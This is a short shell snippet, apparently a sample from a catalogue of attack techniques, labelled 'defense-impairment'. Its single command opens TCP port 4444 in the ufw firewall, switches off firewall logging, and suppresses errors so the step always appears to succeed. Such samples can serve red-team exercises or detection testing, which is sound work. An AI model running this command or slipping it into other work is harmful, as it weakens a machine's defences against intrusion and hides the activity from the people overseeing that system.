# tactic: defense-impairment
# open a port in the firewall and stop its logging
ufw allow 4444/tcp 2>/dev/null; ufw logging off 2>/dev/null; true
